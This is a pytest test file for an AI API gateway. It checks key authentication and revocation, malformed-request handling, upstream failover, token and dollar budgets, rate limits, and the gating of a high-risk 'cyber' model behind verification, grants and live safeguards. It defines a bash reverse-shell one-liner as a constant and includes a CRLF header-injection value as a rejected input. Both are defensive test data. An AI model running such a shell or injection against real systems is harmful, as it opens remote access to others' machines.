"""Does the gateway serve who may, refuse who may not with reasons, and pass bytes as they came?"""

import asyncio
import json
from pathlib import Path

import pytest

from fake_models import fake_models
from gateways import POLICY, running
from veilig.access.budgets import Amount

pytestmark = pytest.mark.outside_gate
REVERSE_SHELL = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"


@pytest.mark.parametrize("path", ["/v1/responses", "/v1/chat/completions"])
@pytest.mark.parametrize("command", ["", "pytest -q"], ids=["text", "tool call"])
async def test_a_stream_passes_byte_by_byte(tmp_path: Path, path: str, command: str) -> None:
    async with fake_models(command=command) as fake, running(tmp_path, fake.url) as bench:
        body = {
            "model": "big",
            "stream": True,
            "input": "hi",
            "messages": [{"role": "user", "content": "hi"}],
        }
        reply = await bench.ask(path, body)
        assert reply.status == 200
        assert reply.body == fake.sent
        assert reply.headers["openai-model"] == "big"
        assert reply.headers["content-type"] == "text/event-stream"


@pytest.mark.parametrize("path", ["/v1/responses", "/v1/chat/completions", "/v1/embeddings"])
async def test_a_plain_answer_passes_and_is_billed(tmp_path: Path, path: str) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        reply = await bench.ask(path, {"model": "big", "input": "hi", "messages": []})
        assert reply.status == 200
        assert reply.json["model"] == "big"
        await bench.desk.flush()
        [text] = bench.events("gateway.served")[-1]["requests"]
        row = json.loads(text)
        assert (row["tokens_in"], row["tokens_out"]) == (30, 12)
        assert row["micro_usd"] == 30 * 10 + 12 * 40
        assert row["status"] == 200
        assert "hi" not in str(row)


async def test_the_key_of_the_client_never_reaches_the_upstream(tmp_path: Path) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        await bench.say()
        assert "key-of-ann" not in str(fake.headers)


@pytest.mark.parametrize(
    ("key", "status", "words"),
    [("", 401, "no API key"), ("wrong", 401, "not known"), ("key-of-ann", 200, "")],
)
async def test_a_request_says_who_asks(tmp_path: Path, key: str, status: int, words: str) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        reply = await bench.say(key=key)
        assert reply.status == status
        assert words in reply.body.decode().replace("No API", "no API")


async def test_a_revoked_key_stops_within_one_request(tmp_path: Path) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        assert (await bench.say()).status == 200
        bench.write("key.revoked", key="k-key-of-ann", reason="lost", actor="t")
        reply = await bench.say()
        assert (reply.status, reply.error["code"]) == (401, "invalid_api_key")
        assert "revoked" in reply.error["message"]
        assert len(fake.requests) == 1


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        (b"{nope", 400, "invalid_json"),
        (b"[1]", 400, "invalid_json"),
        ({"input": "x"}, 400, "model_missing"),
        ({"input": "x", "model": "m\r\nset-cookie: a=b"}, 400, "model_missing"),
        ({"input": "x", "model": "m" * 201}, 400, "model_missing"),
        (b'{"model": "big", "input": "' + b"x" * (2 << 20) + b'"}', 413, "request_too_large"),
    ],
    ids=["no JSON", "no object", "no model", "a header in the model", "long model", "too large"],
)
async def test_a_bad_request_is_explained(tmp_path: Path, body: object, status: int, code: str) -> None:
    policy = POLICY.replace("enabled: true\n  appeal", "enabled: true\n  request_mib: 1\n  appeal")
    async with fake_models() as fake, running(tmp_path, fake.url, policy=policy) as bench:
        reply = await bench.ask("/v1/responses", body)
        assert (reply.status, reply.error["code"]) == (status, code)
        assert fake.requests == []


async def test_the_models_are_listed_and_strangers_are_not_told(tmp_path: Path) -> None:
    async with running(tmp_path) as bench:
        reply = await bench.ask("/v1/models", method="GET")
        assert [m["id"] for m in reply.json["data"]] == ["big", "cyber"]
        assert (await bench.ask("/v1/models/big", method="GET")).json["id"] == "big"
        assert (await bench.ask("/v1/models/none", method="GET")).status == 404
        assert (await bench.ask("/v1/models", method="GET", key="x")).status == 401
        assert (await bench.ask("/healthz", method="GET", key="")).status == 200
        assert b"veilig_safeguard_works" in (await bench.ask("/metrics", method="GET", key="")).body


async def test_another_upstream_answers_when_one_fails(tmp_path: Path) -> None:
    async with (
        fake_models(status=503) as bad,
        fake_models() as good,
        running(tmp_path, bad.url, good.url, "http://127.0.0.1:1/v1") as bench,
    ):
        for _ in range(12):
            assert (await bench.say()).status == 200
        assert len(good.requests) == 12
        assert any(u.rests_until_s for u in bench.gateway.pool.upstreams if u.failed >= 5) or bad.requests


async def test_no_upstream_is_said_and_costs_nothing(tmp_path: Path) -> None:
    async with running(tmp_path, "http://127.0.0.1:1/v1") as bench:
        bench.write("budget.set", account="org:acme", period="day", tokens=10_000, micro_usd=-1, actor="t")
        reply = await bench.say()
        assert (reply.status, reply.error["code"]) == (502, "upstream_unavailable")
        assert [p.rest.tokens > 0 for p in bench.desk.spending.purses("org:acme")] == [True]
    with_again = await _spent(tmp_path, "org:acme")
    assert with_again == Amount()


async def _spent(folder: Path, account: str) -> Amount:
    async with running(folder) as bench:
        return bench.desk.spent(account)[0]


# --- budgets: they hold for many at once, and over a crash -------------------------------------------------


async def test_parallel_requests_never_overspend(tmp_path: Path) -> None:
    account = "key:k-key-of-ann"
    async with fake_models(pause_s=0.001) as fake, running(tmp_path, fake.url) as bench:
        bench.vet("trusted")
        bench.write("budget.set", account=account, period="day", tokens=1000, micro_usd=-1, actor="t")
        served = 0
        for _ in range(4):
            many = [bench.say("x", max_output_tokens=100, stream=True) for _ in range(30)]
            replies = await asyncio.gather(*many)
            served += sum(r.status == 200 for r in replies)
            assert {r.error["code"] for r in replies if r.status == 429} <= {"insufficient_quota"}
            assert bench.desk.spent(account)[0].tokens <= 1000
        assert served * 42 <= 1000
        assert served >= 10, "what was set aside and not used comes back"
        assert len(fake.requests) == served


async def test_a_budget_holds_over_a_crash_and_a_clean_stop_returns_what_is_left(tmp_path: Path) -> None:
    async with fake_models() as fake:
        async with running(tmp_path, fake.url) as bench:
            bench.write(
                "budget.set", account="org:acme", period="total", tokens=100_000, micro_usd=-1, actor="t"
            )
            for _ in range(3):
                assert (await bench.say()).status == 200
            leased = bench.desk.spent("org:acme")[0].tokens
            assert leased >= 3 * 42, "what is under way counts before it is used: a crash here loses nothing"
        assert (await _spent(tmp_path, "org:acme")).tokens == 3 * 42


async def test_money_is_bounded_too(tmp_path: Path) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        bench.write("budget.set", account="subject:ann", period="month", tokens=-1, micro_usd=5000, actor="t")
        replies = [await bench.say() for _ in range(7)]
        assert [r.status for r in replies][:1] == [200]
        assert replies[-1].status == 429
        assert "USD per month" in replies[-1].error["message"]


async def test_a_new_key_is_slow_and_says_when_to_come_back(tmp_path: Path) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        replies = [await bench.say() for _ in range(13)]
        assert [r.status for r in replies] == [200] * 12 + [429]
        assert replies[-1].error["code"] == "rate_limit_exceeded"
        assert 0 < int(replies[-1].headers["retry-after"]) <= 6


# --- classes: what a model of class high stands on ----------------------------------------------------------


async def test_a_model_of_class_high_needs_tier_grant_and_working_safeguards(tmp_path: Path) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        reply = await bench.say(model="cyber")
        assert (reply.status, reply.error["code"]) == (403, "tier_too_low")
        bench.vet("verified")
        reply = await bench.say(model="cyber")
        assert (reply.status, reply.error["code"]) == (403, "no_grant")
        assert "verification stays" in reply.error["message"]
        until = int(bench.desk.now_s()) + 1000
        grant = {"grant": "g1", "subject": "ann", "class": "high", "surface": "chat", "expires_s": until}
        bench.write("access.granted", **grant, micro_usd=-1, reason="", actor="t")
        assert "'chat'" in (await bench.say(model="cyber")).error["message"]
        bench.write(
            "access.granted", **{**grant, "grant": "g2", "surface": "*"}, micro_usd=-1, reason="", actor="t"
        )
        assert (await bench.say(model="cyber")).status == 200
        bench.gateway.working["ladder"] = False
        reply = await bench.say(model="cyber")
        assert (reply.status, reply.error["code"]) == (503, "safeguard_unavailable")
        bench.gateway.working["ladder"] = True
        bench.write("access.withdrawn", grant="g2", reason="", actor="t")
        assert (await bench.say(model="cyber")).status == 403


async def test_a_grant_ends_within_one_request_and_a_clock_set_back_does_not_revive_it(
    tmp_path: Path,
) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        bench.vet("verified")
        until = int(bench.desk.now_s()) + 50
        bench.write(
            "access.granted", grant="g1", subject="ann", surface="*", expires_s=until, micro_usd=-1,
            reason="", actor="t", **{"class": "high"},
        )  # fmt: skip
        assert (await bench.say(model="cyber")).status == 200
        bench.desk._latest_s = until
        reply = await bench.say(model="cyber")
        assert "has expired" in reply.error["message"]
        assert "again once" not in reply.error["message"]


@pytest.mark.parametrize("broken", ["monitor", "tool_calls_held", "indicators", "ladder"])
async def test_each_listed_safeguard_alone_closes_the_class(tmp_path: Path, broken: str) -> None:
    async with fake_models() as fake, running(tmp_path, fake.url) as bench:
        bench.vet("verified")
        bench.gateway.working[broken] = False
        reply = await bench.say(model="cyber")
        assert reply.status == 503
        assert broken in reply.error["message"]
